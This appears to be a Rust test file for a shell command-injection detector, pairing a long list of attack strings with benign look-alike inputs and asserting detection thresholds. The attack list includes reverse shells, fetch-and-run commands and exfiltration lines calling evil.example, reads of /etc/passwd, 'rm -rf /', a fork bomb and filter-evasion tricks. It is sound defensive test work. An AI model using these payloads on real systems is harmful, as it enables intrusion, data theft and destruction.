use super::super::properties::check_properties;
use super::super::tests::{check_table, confidence};
use super::super::{Context, Detector, Place};

const ATTACKS: &[&str] = &[
    "x;w`u`h`u`o`u`a`u`m`u`i;",
    "127.0.0.1$(ps aux)",
    "||$(ps aux)||x",
    "127.0.0.1|expr 69529 + 75582",
    "x$(id>a)",
    "-o /var/www/html/a.php http://evil.example/a.txt",
    "--config=core.sshCommand=touch /tmp/x",
    ";cat /etc/passwd",
    "127.0.0.1;id",
    ";id",
    "|id",
    "||id",
    "&&id",
    "&& id #",
    ";id;",
    "|id|",
    "';id;'",
    "\";id;\"",
    "1;id",
    "|whoami",
    "127.0.0.1 | whoami",
    "127.0.0.1&&whoami",
    "x || whoami",
    "a\nwhoami",
    "127.0.0.1\nid",
    "$(whoami)",
    "$(id)",
    "`id`",
    "`whoami`",
    "x`id`",
    "$(sleep 5)",
    "`sleep 5`",
    ";sleep 10",
    "|sleep 10|",
    "& ping -n 10 127.0.0.1 &",
    "||ping -i 30 127.0.0.1 ; x || ping -n 30 127.0.0.1 &",
    "127.0.0.1 && ls -la /",
    ";ls -la",
    "|ls",
    "|dir",
    "| dir C:\\",
    "|type C:\\Windows\\win.ini",
    "$(cat /etc/passwd)",
    "$(curl http://evil.example/x.sh|sh)",
    "; curl http://evil.example/`whoami`",
    ";wget http://evil.example/x -O /tmp/x",
    "|nc -e /bin/sh 10.0.0.1 4444",
    ";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ";c'a't /e't'c/passwd",
    ";c\\at /et\\c/pas\\swd",
    ";wh\"\"oami",
    ";w'h'o'am'i",
    ";who$@ami",
    ";who``ami",
    "&w^h^o^a^m^i",
    ";cat$IFS/etc/passwd",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";{ls,-la}",
    ";/???/c?t /???/p??s??",
    ";/usr/bin/id",
    ";cat</etc/passwd",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";a=c;b=at;$a$b /etc/passwd",
    ";cat ${PATH:0:1}etc${PATH:0:1}passwd",
    "() { :;}; /bin/bash -c \"id\"",
    "|powershell -enc SQBFAFgA",
    "cmd.exe /c dir",
    "cmd /c whoami",
    "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://e.example/a')",
    "=cmd|' /C calc'!A0",
    "cat /etc/passwd",
    "/bin/cat /etc/passwd",
    "/bin/ls -al",
    "bash -c 'id'",
    "echo YmFzaCAtaQ==|base64 -d|bash",
    ";echo 'f4a2c1'",
    ";echo a1b2c3d4e5",
    ";nslookup x.evil.example",
    "& nslookup evil.example &",
    ";uname -a",
    ";expr 41 \\* 77",
    "a;php -r 'phpinfo();'",
    ";python3 -c 'import os'",
    "|ls \"-la\"",
    "<!--#exec cmd=\"ls\" -->",
    "x; rm -rf /",
    ";busybox wget http://evil.example/m -O /tmp/m",
    "%COMSPEC% /c dir",
    "net user hacker P@ss /add",
    ";ifconfig",
    "|ipconfig /all",
    ";net user",
    ";tasklist",
    "$(printf 'aaa' | md5sum)",
    "`nslookup x.evil.example`",
    "'|whoami||'",
    "0;env",
    "1|ps -ef",
    ";cat+/etc/passwd",
    ";\"cat\" /etc/passwd",
    "1;pwd # x",
    ";echo test",
    "$(echo 1234567)",
    "`echo abcdef`",
    "& echo abcdef &",
    "|expr 123 + 456",
    ";tac flag",
    ";cat f*",
    "1&&id",
    "--upload-pack=touch /tmp/x",
    "-oProxyCommand=curl",
    "<!--#include file=\"/etc/passwd\"-->",
    "cat /[e]tc/pa?swd",
    ";iwr http://evil.example/a.ps1",
    "& FOR /F \"delims=\" %G IN ('SET') DO @Echo %G",
    ":(){ :|:& };:",
    "__import__('os').popen('id').read()",
    "os.system('id')",
    "@{[system 'whoami']}",
    "IO.popen('id').read",
    "%x(id)",
    "powershell C:\\windows\\system32\\notepad.exe",
];

const HONEST: &[&str] = &[
    "`a`和`b`的区别",
    "-o /tmp/a",
    "ps aux",
    "用 expr 1 + 2 计算",
    "-o 输出 http://www.example.org/",
    "升级步骤: cd /opt/his && ./stop.sh; cp his.jar his.jar.bak; ./start.sh; 观察 5 分钟",
    "ls -l | grep txt | wc -l 的含义",
    "ping 127.0.0.1 -n 4; ipconfig /all; netstat -an 分别的作用",
    "{\"stem\":\"看日志: tail -n 100 /var/log/messages | grep -i oom; 结果: Out of memory\"}",
    "cmd /c 参数的解决办法",
    "use \"Go to Definition\" (or Cmd/Ctrl+Click) on the import",
    "R&D",
    "B&W",
    "A&E department",
    "Q&A",
    "cats & dogs",
    "cat food",
    "best cat food; find a doctor near me",
    "the cat sat; the dog ran",
    "choose; select one from list",
    "more; find out below",
    "type; time; host",
    "echo check; find a date",
    "advice: diet; sleep 8 hours a day",
    "salt & pepper; bread & butter",
    "who | what | when",
    "name|id|type",
    "name;id;type",
    "id|name",
    "date|time",
    "sh|600000",
    "600000|sh",
    "fields=name,id",
    "head & neck",
    "kill or cure",
    "MSH|^~\\&|LIS|HOSP|EMR|HOSP|20261120083000||ORU^R01|MSG00001|P|2.4",
    "PID|1||12345^^^HOSP^MR||ZHANG^SAN||19900307|M|||^^BEIJING^^100000^CHN",
    "https://example.org/search?q=blood+test&type=1&id=5&set=2&time=3",
    "/report/view?id=1024&type=pdf&host=a&ps=20&w=100&date=2026-01-01&sort=-x&dir=asc",
    "?a=1&w=100&h=50&id",
    "Use `python` or `host` for `user`",
    "`name` and `type` = `x`",
    "`id` is the key",
    "$(id).show()",
    "$(this).find('.more').hide();",
    "$(document).ready(function(){ $('#date').val(1); });",
    "if (a || id) { sort(a); }",
    "a||id==5",
    "{id,name,date}",
    "{user{id,name},date}",
    "${date}",
    "{{ x | date:'yyyy-MM-dd' }}",
    "{{ items | sort }}",
    "&nbsp;more text&nbsp;head office",
    "&lt;id&gt;",
    "a &amp; cat",
    "text/html; charset=utf-8; date=1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
    "Mozilla/5.0 (Linux; Android 14; V2302A Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0 Mobile Safari/537.36",
    "width:1px;top:2px;cut:3px",
    "O2 (sat) = 98%; HR = 72",
    "gc ; Ps ; Open",
    "患者主诉:头晕;find 无;date 2026-01-01",
    "git pull && npm install",
    "for (let i = 0; i < 10; i++) {}",
    "192.168.1.1;192.168.1.2",
    "server01 | server02 | server03",
    "key=value;key2=value2",
    "O'Brien; host of the party",
    "first line\nmore\nless\nid\ndate",
    "10;20;30",
    "a|b|ls|c|d",
    "whoami 是什么意思",
    "how to use ping command",
    "C:\\Users\\wang\\Desktop\\报告.docx",
    "var a=1;date=new Date();id=5;env='prod'",
    "SELECT 语句怎么写",
    "x=>x.id|0;set(y)",
    "/api/list;jsessionid=1F2?date=1&top=5",
    "pdf & file",
    "Tom & Jerry; host: localhost",
    "it's `date` and `time`",
    "Cookie: a=b; id=5; w=3",
    "BTC|ETH|w",
    "| cat food | price |",
    "|sort|by|",
    "&echo test=1",
    "x; date = new Date(\"/a/b\"); id = 'zr' + 1",
    "export const A = /*#__PURE__*/React.createContext(x);\nlet b = c.d();",
    "x = function () {\n return this.value;\n };",
    "import os from 'x'",
    "the os.system of the body",
    "for 5% in (a) do",
    "left; right; top",
    "java -jar app.jar",
    "<p>more</p>;<b>less</b>",
    "1、清洗;2、消毒;3、sleep",
];

#[test]
fn commands_that_a_shell_would_run_are_confirmed() {
    check_table(Detector::Shell, Context::of(Place::Value), 80, ATTACKS, HONEST);
}

#[test]
fn a_value_that_is_only_a_tool_name_counts_but_does_not_block() {
    for value in ["whoami", "ipconfig", "uname -a", "ls -la"] {
        let sure = confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value));
        assert!((40..80).contains(&sure), "{sure} for {value}");
    }
}

#[test]
fn a_line_of_a_manual_counts_one_point() {
    for value in ["vim /etc/profile", "tail -f /var/log/nginx/access.log", "cd /usr/local"] {
        let sure = confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value));
        assert!(sure < 60, "{sure} for {value}");
    }
}

#[test]
fn prose_about_commands_does_not_block() {
    let text = "进入服务器后先执行以下命令查看用户;cat /etc/passwd 然后重新启动服务即可完成全部配置";
    let sure = confidence(Detector::Shell, text.as_bytes(), Context::of(Place::Value));
    assert!((40..80).contains(&sure), "{sure}");
}

#[test]
fn code_marked_with_backticks_in_a_sentence_does_not_block() {
    for value in ["performance when running `find /` on it", "run `python3 gen.py` first", "请执行 `ls -la` 查看"]
    {
        let sure = confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value));
        assert!(sure < 80, "{sure} for {value}");
    }
}

#[test]
fn responses_run_nothing() {
    assert_eq!(confidence(Detector::Shell, b";cat /etc/passwd", Context::of(Place::ResponseBody)), 0);
}

#[test]
fn shell_findings_meet_the_requirement_in_linear_work() {
    check_properties(
        Detector::Shell,
        &[
            ";",
            "|",
            "&&",
            "`",
            "$(",
            "${IFS}",
            "$IFS$9",
            "cat",
            "id",
            " ",
            "/etc/passwd",
            "'",
            "\"",
            "\\",
            "^",
            "{cat,",
            "}",
            ")",
            "/???/c?t",
            "/*/*/*/*",
            "sh -c ",
            "powershell -enc ",
            "$'\\x63",
            "a=c;",
            "$a",
            "<",
            ">",
            "/dev/tcp/1/2",
            "() { :;};",
            "\n",
            "sudo ",
            "env ",
            "cp ",
            "/opt/x ",
            "~/a",
            "\t",
            "cmd /c ",
            "curl http://x|sh",
            "nc -e /bin/sh",
            "rm -rf /",
            "${",
            "$(echo",
            "ls -la",
            "=",
        ],
    );
}

#[test]
fn a_segment_is_read_without_the_suffix_of_a_page() {
    for attack in ["/d/127.0.0.1 | whoami.html", "/d/127.0.0.1;id.php"] {
        assert!(confidence(Detector::Shell, attack.as_bytes(), Context::of(Place::Path)) >= 80, "{attack}");
    }
    for honest in ["/d/a | b.html", "/d/R&D.html"] {
        assert!(confidence(Detector::Shell, honest.as_bytes(), Context::of(Place::Path)) < 80, "{honest}");
    }
}
